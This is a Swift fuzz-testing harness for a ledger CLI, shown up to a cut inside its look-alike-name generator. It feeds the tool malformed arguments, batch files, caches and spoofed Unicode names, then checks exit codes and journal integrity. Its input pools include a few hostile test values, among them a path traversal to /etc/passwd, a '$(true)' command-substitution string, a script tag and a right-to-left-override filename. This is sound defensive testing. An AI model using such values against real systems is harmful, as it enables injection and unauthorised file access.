// The bad-input campaign (fuzzing). Seeded generators make command lines,
// batch files (CSV and JSON lines), environments, import files and
// corrupted cache files, and each runs against a small ledger whose
// journal bytes are known. Every case must end with a documented exit code
// (0-4), never a signal, a trap (exit >= 128) or a hang; a failed command
// must say what is wrong on stderr, without a crash report or a 10 MB echo,
// and leave the journal byte for byte as it was. Cases built around a
// defect the contract names (a value that is not a number, an invalid
// period, an unknown indicator, a second reading, a correction without a
// reason, a negative value, a malformed row...) must be refused; the rest
// may be accepted, and then the journal must still verify.
//
// Corrupted caches get the cache oracle: the same probes (a dry-run batch
// of second readings, a refused append, the reader mix) must answer as on a
// copy without caches, and a valid append must still succeed.
//
// Names that imitate the ledger's own (MED, POA 2017, the actor
// `campaign`: Cyrillic and Greek letters, full width, case, invisible and
// bidi characters, control characters, too long) must be refused, on the
// command line, in the environment and in batch files. Text a spreadsheet
// would run as a formula (=, +, -, @, a tab first) is valid and recorded;
// then every CSV report is read back, and no cell may begin with one of
// those characters unless it is a plain number.

import Foundation
import LedgerCore
import LedgerToolSupport
#if canImport(Glibc)
import Glibc
#endif

final class BadInputCampaign: CampaignRun {
    let workspace: Workspace

    /// What the contract says a case must get.
    enum Expect { case refusal, anyDocumented }

    struct Case {
        var source: String
        var arguments: [[UInt8]]
        var environment: [String: String] = [:]
        var files: [String] = []
        var expect: Expect
        var why: String
        var timeout: Double = 30
    }

    private var pristine = ""
    private var work = ""
    private var pristineJournal: [UInt8] = []
    private var inputs = ""
    private var dirty = false
    private var oracle: [[String]: CapturedProcess] = [:]
    private var probeCommands: [[String]] = []
    private var staleCache: [(String, [UInt8])] = []
    private var foreignCache: [(String, [UInt8])] = []
    private var pristineCaches: [(String, [UInt8])] = []

    init(_ config: CampaignConfig) {
        workspace = Workspace("badinput", config)
    }

    func run() -> Report {
        report.declare("inputs tried", "handled", "refused as the contract requires", "accepted", "exit 0", "exit 1", "exit 2", "exit 3", "exit 4",
                       "crashes", "hangs", "undocumented exit codes", "unclear messages", "journal changed by a refused command",
                       "invalid inputs accepted", "cache cases", "cache probes", "cache mismatches",
                       "look-alike or invisible names refused", "formula texts recorded", "CSV reports read back", "formula cells in CSV reports")
        do { try setUp() } catch {
            report.defect("setup", "\(error)")
            return report
        }
        var rng = SplitMix64(seed: config.seed, stream: 4242)
        let hasImport = tool.has("import")
        if !hasImport { report.note("`ledger import` is not in this build: import files were not fuzzed") }
        var cases = 0
        if config.hugeInputs {
            for c in hugeCases() {
                execute(c)
                cases += 1
            }
        }
        while cases < config.inputs {
            let kind = rng.weighted([30, 12, 20, 20, 8, 5, hasImport ? 5 : 0, 8, 4])
            switch kind {
            case 0: execute(commandLine(&rng))
            case 1: execute(directedCommandLine(&rng))
            case 2: execute(csvBatch(&rng))
            case 3: execute(jsonBatch(&rng))
            case 4: cacheCase(&rng)
            case 5: execute(environmentCase(&rng))
            case 6: execute(importCase(&rng))
            case 7: execute(lookAlikeCase(&rng))
            default: formulaCase(&rng)
            }
            cases += 1
            if cases % 1000 == 0 { workspace.log("\(cases) inputs, \(report.defectCount) defects") }
        }
        if report.defectCount == 0 { workspace.cleanUp() }
        return report
    }

    // MARK: Setup

    private func setUp() throws {
        pristine = workspace.path("pristine")
        work = workspace.path("ledger")
        inputs = workspace.path("inputs")
        try? Files.makeDirectories(inputs)
        func ok(_ dir: String, _ args: [String]) throws {
            let r = tool.run(args, ledger: dir)
            guard r.code == 0 else { throw FileError(description: "`ledger \(args.joined(separator: " "))` failed: \(r.summary)") }
        }
        try tool.initLedger(pristine, entity: "Bad input campaign")
        try ok(pristine, ["append", "indicator", "--id", "MED", "--name", "INSTALACION DE MEDIDORES", "--unit", "MEDIDORES", "--year", "2017",
                          "--annual-target", "3600", "--monthly-targets", "300,300,300,300,300,300,300,300,300,300,300,300", "--plan", "POA 2017"])
        staleCache = cacheFiles(pristine)
        try ok(pristine, ["append", "indicator", "--id", "TRI", "--name", "Trimestral", "--unit", "ACCIONES", "--year", "2017",
                          "--annual-target", "40", "--frequency", "quarterly", "--plan", "POA 2017"])
        try ok(pristine, ["append", "indicator", "--id", "RAT", "--name", "Cobertura", "--unit", "%", "--year", "2017",
                          "--annual-target", "95", "--aggregation", "ratio", "--plan", "POA 2017"])
        for m in 1...3 { try ok(pristine, ["append", "reading", "--indicator", "MED", "--period", "2017-0\(m)", "--value", "\(250 + m)"]) }
        try ok(pristine, ["append", "reading", "--indicator", "TRI", "--period", "2017-Q1", "--value", "9"])
        try ok(pristine, ["append", "reading", "--indicator", "RAT", "--period", "2017-01", "--numerator", "90", "--denominator", "100"])
        try ok(pristine, ["append", "close", "--quarter", "2017-Q1", "--plan", "POA 2017"])
        for reader in tool.availableReaders() where reader.deterministic {
            _ = tool.run(reader.arguments.map { $0 == "{indicator}" ? "MED" : $0 }, ledger: pristine)
        }
        _ = tool.run(["append", "reading", "--indicator", "MED", "--period", "2017-04", "--value", "1", "--dry-run"], ledger: pristine)
        pristineJournal = try Files.read("\(pristine)/events/journal.jsonl")
        pristineCaches = cacheFiles(pristine)

        let other = workspace.path("other")
        try tool.initLedger(other, entity: "Another ledger")
        try ok(other, ["append", "indicator", "--id", "MED", "--name", "Otro", "--unit", "U", "--year", "2017", "--annual-target", "12"])
        try ok(other, ["append", "reading", "--indicator", "MED", "--period", "2017-05", "--value", "5"])
        foreignCache = cacheFiles(other)

        // What the cache probes print on the pristine ledger without caches.
        let probe = "\(inputs)/cache-probe.csv"
        try Files.write(probe, "type,indicator,period,value,numerator,denominator\nreading,MED,2017-01,1,,\nreading,MED,2017-02,1,,\nreading,MED,2017-03,1,,\nreading,TRI,2017-Q1,1,,\nreading,RAT,2017-01,,1,2\nreading,MED,2017-04,1,,\ncorrection,MED,2017-05,3,,\n")
        probeCommands = [["append", "--file", probe, "--dry-run"],
                         ["append", "reading", "--indicator", "MED", "--period", "2017-02", "--value", "9"]]
        for reader in tool.availableReaders() where reader.deterministic {
            probeCommands.append(reader.arguments.map { $0 == "{indicator}" ? "MED" : $0 })
        }
        let bare = workspace.path("oracle")
        try Files.copyTree(pristine, bare)   // another folder: no caches of its own yet
        for command in probeCommands {
            oracle[command] = tool.run(command, ledger: bare, env: ["LEDGER_CLOCK": LedgerTool.fixedClock])
        }
        try Files.copyTree(pristine, work)
    }

    /// The caches the binary keeps for `ledger`, in the account's cache folder for it.
    private func cacheFiles(_ ledger: String) -> [(String, [UInt8])] {
        guard let folder = tool.cacheFolder(of: ledger) else { return [] }
        return Files.regularFiles(under: folder).map { ($0, (try? Files.read("\(folder)/\($0)")) ?? []) }
    }

    /// The working ledger as the pristine one, its caches too (in its own cache folder).
    private func restore() {
        try? Files.copyTree(pristine, work)
        if let folder = tool.cacheFolder(of: work) {
            try? Files.removeTree(folder)
            try? Files.makeDirectories(folder)
            chmod(folder, 0o700)
            for (name, bytes) in pristineCaches { try? Files.write("\(folder)/\(name)", bytes) }
        }
        dirty = false
    }

    private func file(_ name: String, _ bytes: [UInt8]) -> String {
        let path = "\(inputs)/\(name)"
        try? Files.write(path, bytes)
        return path
    }

    // MARK: Running and judging one case

    private func execute(_ c: Case) {
        if dirty { restore() }
        let r = tool.runBytes(c.arguments, ledger: work, env: c.environment, timeout: c.timeout)
        judge(c, r)
    }

    private func judge(_ c: Case, _ r: CapturedProcess) {
        report.add("inputs tried")
        report.add("tried: \(c.source)")
        let after = (try? Files.read("\(work)/events/journal.jsonl")) ?? []
        let changed = after != pristineJournal
        let words = Set(c.arguments.map { String(decoding: $0, as: UTF8.self) })
        if changed || r.code == 0 || !words.isDisjoint(with: ["init", "repair", "snapshot", "import", "--ledger"]) { dirty = true }
        var problems: [(String, String)] = []
        if r.timedOut {
            report.add("hangs")
            problems.append(("hang", r.summary))
        } else if r.isCrash {
            report.add("crashes")
            problems.append(("crash", r.summary))
        } else if let code = r.code {
            report.add("exit \(code)")
            if code > 4 {
                report.add("undocumented exit codes")
                problems.append(("undocumented exit code", r.summary))
            }
            if code != 0 {
                if let unclear = Diagnosis.unclear(r) {
                    report.add("unclear messages")
                    problems.append(("unclear message", unclear))
                }
                if changed {
                    report.add("journal changed by a refused command")
                    problems.append(("journal changed by a refused command", r.summary))
                }
                let digestAsked = c.arguments.contains { String(decoding: $0, as: UTF8.self).hasPrefix("--digest") }
                if code == 3 && !digestAsked {
                    problems.append(("integrity failure on an intact journal", r.summary))
                }
                if c.expect == .refusal { report.add("refused as the contract requires") }
                if c.source == "look-alike name" && code == 1 { report.add("look-alike or invisible names refused") }
            } else {
                report.add("accepted")
                if c.expect == .refusal {
                    report.add("invalid inputs accepted")
                    problems.append(("invalid input accepted", c.why))
                }
                if changed {
                    let v = tool.run(["verify"], ledger: work)
                    if v.code != 0 { problems.append(("accepted input left a journal that does not verify", v.summary)) }
                }
            }
        }
        if problems.isEmpty {
            report.add("handled")
            return
        }
        let command = "ledger " + c.arguments.map { String(decoding: $0, as: UTF8.self).debugDescription }.joined(separator: " ")
            + (c.environment.isEmpty ? "" : "  env: \(c.environment)")
        let dir = workspace.keep(problems[0].0.replacingOccurrences(of: " ", with: "-"), files: c.files,
                                 trees: changed ? ["\(work)/events"] : [], command: command + "\nwhy: \(c.why)", result: r)
        for (kind, detail) in problems {
            report.defect(kind, "\(c.source) (\(c.why)): \(detail) — \(String(command.prefix(300)))", reproducer: dir)
        }
    }

    // MARK: Pools

    static let commands = ["init", "append", "verify", "digest", "repair", "log", "help", "status", "quarter", "history", "replay", "diff",
                           "snapshot", "import", "export", "APPEND", "apend", "--help", "-h", "--version", "", " ", "append append"]
    static let types = ["indicator", "target", "reading", "correction", "observation", "budget", "close", "readings", "lectura", "", "INDICATOR"]
    static let flags = ["--id", "--name", "--unit", "--year", "--annual-target", "--monthly-targets", "--frequency", "--aggregation",
                        "--direction", "--baseline", "--owner", "--owner-name", "--plan", "--description", "--indicator", "--period",
                        "--value", "--numerator", "--denominator", "--note", "--reason", "--text", "--modified", "--accrued", "--paid",
                        "--quarter", "--post-close", "--file", "--dry-run", "--json", "--csv", "--actor", "--ledger", "--lang", "--as-of",
                        "--since", "--until", "--type", "--digest", "--entity", "--timezone", "--through", "--from", "--to", "--help",
                        "--", "-", "--=", "--value=5", "---value", "--VALUE", "-v", "--xyz", "--period=2017-04", "--lang=es"]
    static let numbers = ["0", "1", "262", "14757499.81", "239415", "-1", "-0", "0.5", "2.75", "1e10", "1e400", "NaN", "nan", "inf", "-inf",
                          "0x10", "1,000", "14,757,499.81", "1.000,50", "١٢٣", "１２", "99999999999999999999", String(repeating: "9", count: 40),
                          String(repeating: "9", count: 1000), "1.", ".5", "+5", "5-", "1 000", " 7 ", "", "--", "1/2", "50%", "$100", "0.0000000000000000001"]
    static let periods = ["2017-01", "2017-04", "2017-12", "2017-13", "2017-00", "2017-Q1", "2017-Q4", "2017-Q5", "2017-Q0", "2017-H1", "2017-H3",
                          "2017", "2018-01", "1899-01", "3000-01", "20170", "2017-1", "2017-03-01", "9999-12", "0000-01", "-2017-01", " 2017-04 ",
                          "2017-q2", "2017/04", "ENE-2017", "", "2017-Q1 "]
    static let words = ["MED", "TRI", "RAT", "NOPE", "med", "MED ", " MED", "M,E,D", "MED\tX", "Ñandú", "INSTALACION DE MEDIDORES",
                        "NO SE CUMPLIO LA META", "POA 2017", "", " ", "'", "\"", "\\", "%s%n%x", "$(true)", "../../../etc/passwd",
                        "<script>alert(1)</script>", "a\u{7}b", "línea\nnueva", "emoji 🚰💧", "\u{202E}gnp.exe", "ascending", "descending",
                        "sum", "last", "average", "ratio", "monthly", "quarterly", "annual", "semiannual", "es", "en", "xx",
                        "America/Mexico_City", "Mars/Olympus", "UTC", "2017-04-10", "2017-04-10T15:30:00Z", "yesterday"]

    private func value(_ rng: inout SplitMix64) -> [UInt8] {
        switch rng.int(0..<12) {
        case 0...3: return Array(rng.pick(BadInputCampaign.numbers).utf8)
        case 4, 5: return Array(rng.pick(BadInputCampaign.periods).utf8)
        case 6...8: return Array(rng.pick(BadInputCampaign.words).utf8)
        case 9: return BadInputCampaign.invalidUTF8(&rng)
        case 10: return Array(String(repeating: rng.pick(["x", "ñ", "9", "💧"]), count: rng.int(1000...30000)).utf8)
        default: return Array(rng.pick([inputs + "/missing.csv", inputs, "/dev/null", "/dev/zero", "/", workspace.path("nowhere"), "-"]).utf8)
        }
    }

    static func invalidUTF8(_ rng: inout SplitMix64) -> [UInt8] {
        let pieces: [[UInt8]] = [[0xFF], [0xFE, 0xFF], [0xC3], [0xC0, 0x80], [0xED, 0xA0, 0x80], [0xF4, 0x90, 0x80, 0x80], [0x80], [0xE2, 0x82]]
        return Array("MED".utf8) + rng.pick(pieces) + Array("x".utf8)
    }

    // MARK: Command lines

    /// A random command line from the vocabulary of the contract.
    private func commandLine(_ rng: inout SplitMix64) -> Case {
        var args: [[UInt8]] = []
        if rng.chance(0.1) { args += [Array("--lang".utf8), Array(rng.pick(["es", "en", "fr", ""]).utf8)] }
        let command = rng.pick(BadInputCampaign.commands)
        args += command.split(separator: " ").map { Array($0.utf8) }
        if command == "append" && rng.chance(0.8) { args.append(Array(rng.pick(BadInputCampaign.types).utf8)) }
        for _ in 0..<rng.int(0...10) {
            if rng.chance(0.7) {
                args.append(Array(rng.pick(BadInputCampaign.flags).utf8))
                if rng.chance(0.85) { args.append(value(&rng)) }
            } else {
                args.append(value(&rng))
            }
        }
        // Never point the fuzz at a ledger outside the workspace.
        for i in args.indices where String(decoding: args[i], as: UTF8.self) == "--ledger" && i + 1 < args.count {
            args[i + 1] = Array(rng.pick([work, workspace.path("nowhere"), inputs]).utf8)
        }
        if args.count == 1 && command == "init" { args += [Array("--entity".utf8), Array("X".utf8)] }
        return Case(source: "command line", arguments: args, expect: .anyDocumented, why: "random command line")
    }

    /// A valid append with one field made invalid in a way the contract names.
    private func directedCommandLine(_ rng: inout SplitMix64) -> Case {
        let month = rng.int(4...12)
        let period = month < 10 ? "2017-0\(month)" : "2017-\(month)"
        var fields: [(String, String)]
        var why: String
        switch rng.int(0..<10) {
        case 0:
            fields = [("--indicator", "MED"), ("--period", period), ("--value", rng.pick(["abc", "1e400", "NaN", "1,000", "", "0x10", "١٢٣", "12abc", "--"]))]
            why = "a value that is not a number"
        case 1:
            fields = [("--indicator", "MED"), ("--period", rng.pick(["2017-13", "2017-00", "2017-Q5", "2018-01", "2016-12", "2017-Q1", "2017", "2017-H1", "x"])), ("--value", "5")]
            why = "a period not of the indicator's frequency or year"
        case 2:
            fields = [("--indicator", rng.pick(["NOPE", "med", "MED2", "TRI-"])), ("--period", period), ("--value", "5")]
            why = "an unknown indicator"
        case 3:
            fields = [("--indicator", "MED"), ("--period", rng.pick(["2017-01", "2017-02", "2017-03"])), ("--value", "5")]
            why = "a second reading for the same period"
        case 4:
            fields = [("--indicator", "MED"), ("--period", period), ("--value", rng.pick(["-5", "-0.01", "-99999"]))]
            why = "a negative value"
        case 5:
            return Case(source: "directed command line", arguments: ["append", "correction", "--indicator", "MED", "--period", "2017-02", "--value", "7"].map { Array($0.utf8) },
                        expect: .refusal, why: "a correction without a reason")
        case 6:
            return Case(source: "directed command line", arguments: ["append", "reading", "--indicator", "MED", "--period", period, "--value", "5"].map { Array($0.utf8) },
                        environment: ["LEDGER_ACTOR": LedgerTool.unset], expect: .refusal, why: "no actor")
        case 7:
            fields = [("--indicator", "MED"), ("--period", period), ("--value", "5"), (rng.pick(["--colour", "--vaule", "--perid"]), "x")]
            why = "an unknown flag"
        case 8:
            fields = [("--indicator", "RAT"), ("--period", period), ("--value", "5")]
            why = "a plain value for a ratio indicator"
        default:
            fields = [("--indicator", "MED"), ("--period", "2017-02"), ("--value", "7"), ("--reason", "x")]
            return Case(source: "directed command line",
                        arguments: (["append", "correction"] + fields.flatMap { [$0.0, $0.1] }).map { Array($0.utf8) },
                        expect: .refusal, why: "a correction in a closed quarter without --post-close")
        }
        let args = ["append", "reading"] + fields.flatMap { [$0.0, $0.1] }
        return Case(source: "directed command line", arguments: args.map { Array($0.utf8) }, expect: .refusal, why: why)
    }

    // MARK: Batch files

    /// Valid rows for a batch (fresh periods of MED and a new indicator), as field dictionaries.
    private func validRows(_ rng: inout SplitMix64, count: Int) -> [[String: String]] {
        var rows: [[String: String]] = []
        let newID = "NEW-\(rng.int(1...99999))"
        if rng.chance(0.5) {
            rows.append(["type": "indicator", "id": newID, "name": "Nuevo indicador, lote", "unit": "CONTRATOS", "year": "2017", "annual-target": "120"])
        }
        var months = [4, 5, 6, 8, 9, 10, 11, 12]
        for _ in 0..<count {
            switch rng.int(0..<4) {
            case 0 where !months.isEmpty:
                let m = months.remove(at: rng.int(0..<months.count))
                rows.append(["type": "reading", "indicator": "MED", "period": m < 10 ? "2017-0\(m)" : "2017-\(m)", "value": String(rng.int(0...999)), "note": "ok"])
            case 1:
                rows.append(["type": "observation", "indicator": "MED", "period": "2017-0\(rng.int(1...9))", "text": "NO SE CUMPLIO LA META POR NO HABER CONTRATANTES"])
            case 2:
                rows.append(["type": "target", "indicator": "MED", "annual-target": String(rng.int(1000...5000)), "reason": "reprogramación"])
            default:
                rows.append(["type": "budget", "indicator": "MED", "period": "2017-0\(rng.int(4...9))", "modified": "14757499.81", "accrued": "239415", "paid": "100.5"])
            }
        }
        return rows
    }

    /// A defect the contract says must be refused, applied to a row.
    private func breakRow(_ row: inout [String: String], _ rng: inout SplitMix64) -> String {
        switch rng.int(0..<11) {
        case 0: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))", "value": rng.pick(["abc", "1e400", "NaN", "1,0,0", "12abc", "true", "5 5"])]; return "a value that is not a number"
        case 1: row = ["type": "reading", "indicator": "MED", "period": rng.pick(["2017-13", "2017-Q5", "2018-02", "2017-00", "13-2017"]), "value": "1"]; return "an invalid period"
        case 2: row = ["type": "reading", "indicator": rng.pick(["NOPE", "med", "MED-X"]), "period": "2017-05", "value": "1"]; return "an unknown indicator"
        case 3: row = ["type": "reading", "indicator": "MED", "period": rng.pick(["2017-01", "2017-02", "2017-03"]), "value": "1"]; return "a second reading"
        case 4: row = ["type": "correction", "indicator": "MED", "period": "2017-02", "value": "77"]; return "a correction without a reason"
        case 5: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))", "value": rng.pick(["-5", "-0.5", "-1000000"])]; return "a negative value"
        case 6: row["type"] = rng.pick(["lecturas", "", "READINGS", "reading;", "??"]); return "an unknown or missing type"
        case 7: row["colour"] = "red"; return BadInputCampaign.strayColumn
        case 8: row = ["type": "reading", "indicator": "MED", "period": "2017-0\(rng.int(4...9))"]; return "a reading without a value"
        case 9: row = ["type": "reading", "indicator": "RAT", "period": "2017-02", "value": "5"]; return "a plain value for a ratio indicator"
        default: row = ["type": "reading", "indicator": "TRI", "period": "2017-05", "value": "1"]; return "a month for a quarterly indicator"
        }
    }

    static let strayColumn = "a column no field of the row's type uses"

    /// Byte-level damage that makes a file malformed, whatever its rows say.
    private func malform(_ bytes: inout [UInt8], json: Bool, _ rng: inout SplitMix64) -> String {
        switch rng.int(0..<6) {
        case 0:
            bytes += Array((json ? "{\"type\":\"reading\",\"indicator\":\"MED\",\"period\":\"2017-06\",\"value\":\"1\"" : "reading,MED,2017-06,\"1\n").utf8)
            return json ? "a truncated JSON object" : "an unterminated quote"
        case 1:
            bytes += Array(String(repeating: "x", count: (1 << 20) + rng.int(1...5000)).utf8) + [0x0A]
            return "a line over 1 MB"
        case 2:
            bytes += Array((json ? "[1,2,3]\n" : "").utf8) + (json ? [] : Array("reading,MED,2017-06,1,a,b,c,d,e,f,g,h,i,j,k,l,m\n".utf8))
            return json ? "a line that is not an object" : "a row with more cells than the header"
        case 3:
            bytes += Array((json ? "{\"type\":\"reading\",\"indicator\":\"MED\",,}\n" : "").utf8)
            if !json { bytes = Array("indicator,period,value\nMED,2017-06,1\n".utf8) }
            return json ? "invalid JSON" : "a header without a type column"
        case 4:
            bytes += Array((json ? "{\"type\":\"reading\",\"value\":" + String(repeating: "[", count: rng.int(1000...200000)) + "\n" : "\"\"\"\n").utf8)
            return json ? "deeply nested JSON" : "stray quotes"
        default:
            bytes = rng.chance(0.5) ? [] : (rng.chance(0.5) ? [0xEF, 0xBB, 0xBF] : Array((json ? "\n\n" : "type,indicator,period,value\r\n").utf8))
            return "an empty file, a lone BOM or a header without rows"
        }
    }

    /// Transformations a real file may carry; they must not crash anything.
    private func decorate(_ text: [UInt8], _ rng: inout SplitMix64) -> ([UInt8], [String]) {
        var bytes = text
        var applied: [String] = []
        if rng.chance(0.2) { bytes = [0xEF, 0xBB, 0xBF] + bytes; applied.append("BOM") }
        if rng.chance(0.2) {
            bytes = bytes.flatMap { $0 == 0x0A ? [0x0D, 0x0A] : [$0] }
            applied.append("CRLF")
        }
        if rng.chance(0.1) { bytes += Array("\n\n  \n".utf8); applied.append("blank lines") }
        if rng.chance(0.1), let nl = bytes.lastIndex(of: 0x0A), nl == bytes.count - 1 { bytes.removeLast(); applied.append("no final newline") }
        if rng.chance(0.08) {
            let at = rng.int(0..<max(1, bytes.count))
            bytes.insert(contentsOf: rng.pick([[0xFF], [0xC3], [0xED, 0xA0, 0x80], [0x00], [0xC0, 0xAF]]), at: min(at, bytes.count))
            applied.append("invalid UTF-8 or NUL")
        }
        return (bytes, applied)
    }

    private static let columns = ["type", "id", "name", "unit", "year", "annual-target", "indicator", "period", "value", "numerator",
                                  "denominator", "note", "text", "reason", "modified", "accrued", "paid", "colour"]

    private static func csvText(_ rows: [[String: String]], rng: inout SplitMix64) -> [UInt8] {
        let used = columns.filter { c in rows.contains { $0[c] != nil } }
        let header = used.map { c in rng.chance(0.1) ? c.uppercased().replacingOccurrences(of: "-", with: "_") : c }
        var text = header.joined(separator: ",") + "\n"
        for row in rows {
            text += used.map { c in
                let v = row[c] ?? ""
                return v.contains(",") || v.contains("\"") || v.contains("\n") || rng.chance(0.05) ? "\"" + v.replacingOccurrences(of: "\"", with: "\"\"") + "\"" : v
            }.joined(separator: ",") + "\n"
        }
        return Array(text.utf8)
    }

    private static func jsonText(_ rows: [[String: String]], rng: inout SplitMix64) -> [UInt8] {
        var text = ""
        for row in rows {
            let pairs = columns.compactMap { c -> String? in
                guard let v = row[c] else { return nil }
                let key = rng.chance(0.1) ? c.replacingOccurrences(of: "-", with: "_") : c
                // Numbers sometimes as JSON numbers, as a spreadsheet export would write them.
                if ["value", "annual-target", "year", "modified"].contains(c), Double(v) != nil, rng.chance(0.3) { return "\"\(key)\":\(v)" }
                return "\"\(key)\":\"\(WriterWorkload.jsonEscape(v))\""
            }
            text += "{" + pairs.joined(separator: ",") + "}\n"
        }
        return Array(text.utf8)
    }

    private func batchCase(_ rng: inout SplitMix64, json: Bool) -> Case {
        var rows = validRows(&rng, count: rng.int(1...25))
        // Each reason with the row it broke (-1: the whole file).
        var broken: [(row: Int, why: String)] = []
        for _ in 0..<rng.int(0...3) where !rows.isEmpty {
            let i = rng.int(0..<rows.count)
            broken.append((i, breakRow(&rows[i], &rng)))
        }
        var wrongType = false
        if rng.chance(0.1) {
            // Wrong types in JSON: a field that is an object, an array, a boolean or null.
            let i = rng.int(0..<rows.count)
            rows[i]["value"] = nil
            rows[i]["type"] = "reading"
            rows[i]["indicator"] = "MED"
            rows[i]["period"] = "2017-07"
            // The row is another now: what broke it before is gone, but for a stray column.
            broken.removeAll { $0.row == i && $0.why != BadInputCampaign.strayColumn }
            broken.append((i, json ? "a value of the wrong JSON type" : "a reading without a value"))
            wrongType = json
        }
        var bytes = json ? BadInputCampaign.jsonText(rows, rng: &rng) : BadInputCampaign.csvText(rows, rng: &rng)
        if wrongType {
            let wrong = rng.pick(["{\"x\":1}", "[1]", "true", "null", "\"\"", "1e400", "-5", "1.5e3"])
            bytes = Array(String(decoding: bytes, as: UTF8.self).replacingOccurrences(of: "\"period\":\"2017-07\"", with: "\"period\":\"2017-07\",\"value\":\(wrong)").utf8)
            // A one-number list is a list of numbers, which a batch line may give any field (it is
            // how monthly targets are written): it reads as that number, as 1.5e3 reads as 1500.
            if ["1e400", "1.5e3", "[1]"].contains(wrong) { broken.removeLast() }
        }
        var reasons = broken.map(\.why)
        if rng.chance(0.25) { reasons.append(malform(&bytes, json: json, &rng)) }
        let (decorated, applied) = decorate(bytes, &rng)
        let ext = rng.chance(0.85) ? (json ? "jsonl" : "csv") : rng.pick(["txt", "json", "ndjson", "", "CSV"])
        let path = file("batch-\(rng.int(0..<1_000_000)).\(ext)", decorated)
        var args = ["append", "--file", path]
        if rng.chance(0.2) { args.append("--dry-run") }
        if rng.chance(0.2) { args.append("--json") }
        let why = (reasons.isEmpty ? ["valid rows"] : reasons).joined(separator: ", ") + (applied.isEmpty ? "" : " (+\(applied.joined(separator: ", ")))")
        return Case(source: json ? "JSON-lines batch" : "CSV batch", arguments: args.map { Array($0.utf8) }, files: [path],
                    expect: reasons.isEmpty ? .anyDocumented : .refusal, why: why)
    }

    private func csvBatch(_ rng: inout SplitMix64) -> Case { batchCase(&rng, json: false) }
    private func jsonBatch(_ rng: inout SplitMix64) -> Case { batchCase(&rng, json: true) }

    /// The 10 MB inputs and other large ones, once per run.
    private func hugeCases() -> [Case] {
        let ten = 10 << 20
        var cases: [Case] = []
        func add(_ name: String, _ bytes: [UInt8], _ expect: Expect, _ why: String) {
            let path = file(name, bytes)
            cases.append(Case(source: "huge input", arguments: ["append", "--file", path].map { Array($0.utf8) }, files: [],
                              expect: expect, why: why, timeout: 120))
        }
        add("huge-note.csv", Array("type,indicator,period,value,note\nreading,MED,2017-05,1,".utf8) + [UInt8](repeating: 0x61, count: ten) + [0x0A],
            .anyDocumented, "a 10 MB note in a CSV row")
        add("huge-line.csv", Array("type,indicator,period,value\n".utf8) + [UInt8](repeating: 0x78, count: ten) + [0x0A], .refusal, "a 10 MB CSV line")
        add("huge-nonewline.csv", [UInt8](repeating: 0x2C, count: ten), .refusal, "10 MB of commas without a newline")
        add("huge-note.jsonl", Array("{\"type\":\"reading\",\"indicator\":\"MED\",\"period\":\"2017-05\",\"value\":\"1\",\"note\":\"".utf8)
            + [UInt8](repeating: 0x61, count: ten) + Array("\"}\n".utf8), .anyDocumented, "a 10 MB note in a JSON line")
        add("huge-digits.jsonl", Array("{\"type\":\"reading\",\"indicator\":\"MED\",\"period\":\"2017-05\",\"value\":".utf8)
            + [UInt8](repeating: 0x39, count: ten) + Array("}\n".utf8), .refusal, "a 10 MB number")
        add("huge-nesting.jsonl", [UInt8](repeating: 0x5B, count: ten) + [0x0A], .refusal, "10 MB of nested arrays")
        var many = "type,indicator,period,value\n"
        for i in 0..<100_000 { many += "observation,MED,2017-0\(i % 9 + 1),\n" }
        add("many-rows.csv", Array((many + "reading,NOPE,2017-05,1\n").utf8), .refusal, "100,000 rows with a bad one at the end")
        add("invalid-utf8.csv", Array("type,indicator,period,value\nreading,".utf8) + [0xFF, 0xFE, 0xC3] + Array(",2017-05,1\n".utf8),
            .refusal, "an indicator id in invalid UTF-8")
        return cases
    }

    // MARK: Names and spreadsheet cells

    static let lookAlikeIDs = ["M\u{415}D", "\u{41C}ED", "\u{39C}\u{395}D", "\u{FF2D}\u{FF25}\u{FF24}", "med", "Med", "MED\u{200B}",
                               "ME\u{200D}D", "\u{202E}MED", "MED\u{2060}", "\u{FEFF}MED", "ME\u{AD}D", "R\u{410}T", "TR\u{406}", "\u{1D40C}ED"]
    static let lookAlikePlans = ["P\u{41E}A 2017", "\u{420}OA 2017", "POA\u{A0}2017", "POA\t2017", "POA\r2017", "POA\n2017", "poa 2017",
                                 "POA 2O17", "\u{FF30}OA 2017", "POA 2017\u{200B}", "POA\u{2003}2017"]
    static let lookAlikeActors = ["Campaign", "CAMPAIGN", "c\u{430}mpaign", "camp\u{200B}aign", "\u{202E}campaign", "campaign\u{200F}",
                                  "ca\u{AD}mpaign", "c\u{FF41}mpaign", "campaign\u{3000}x"]

    /// A name that imitates one of the ledger's, or holds a character no
    /// name may hold, or is too long: refused, whatever way it comes in.
    private func lookAlikeCase(_ rng: inout SplitMix64) -> Case {
        let fresh = "LOOK-\(rng.int(1...99999))"
        func define(id: String, plan: String) -> [String] {
            ["append", "indicator", "--id", id, "--name", "Parecido", "--unit", "U", "--year", "2017", "--annual-target", "1", "--plan", plan]
        }
        let tooLong = String(repeating: "M", count: rng.int(65...6000))
        switch rng.int(0..<5) {
        case 0:
            let id = rng.chance(0.9) ? rng.pick(BadInputCampaign.lookAlikeIDs) : tooLong
            return Case(source: "look-alike name", arguments: define(id: id, plan: "POA 2017").map { Array($0.utf8) }, expect: .refusal,
                        why: "an id that looks like MED, TRI or RAT, or holds a hidden character: \(id.prefix(20).debugDescription)")
        case 1:
            let plan = rng.chance(0.9) ? rng.pick(BadInputCampaign.lookAlikePlans) : String(repeating: "P", count: 101)
            let args = rng.chance(0.7) ? define(id: fresh, plan: plan) : ["append", "close", "--quarter", "2017-Q2", "--plan", plan]
            return Case(source: "look-alike name", arguments: args.map { Array($0.utf8) }, expect: .refusal,
                        why: "a plan that looks like POA 2017, or holds a control or hidden character: \(plan.prefix(20).debugDescription)")
        case 2, 3:
            let actor = rng.chance(0.9) ? rng.pick(BadInputCampaign.lookAlikeActors) : String(repeating: "a", count: 101)
            let args = ["append", "observation", "--indicator", "MED", "--period", "2017-05", "--text", "x"]
            let byFlag = rng.chance(0.5)
            return Case(source: "look-alike name", arguments: (args + (byFlag ? ["--actor", actor] : [])).map { Array($0.utf8) },
                        environment: byFlag ? [:] : ["LEDGER_ACTOR": actor], expect: .refusal,
                        why: "an actor that looks like `campaign`, or holds a hidden character: \(actor.debugDescription)")
        default:
            // In a batch file: good rows, then one row with the look-alike.
            var rows: [[String: String]] = [["type": "indicator", "id": fresh, "name": "n", "unit": "u", "year": "2017", "annual-target": "1"]]
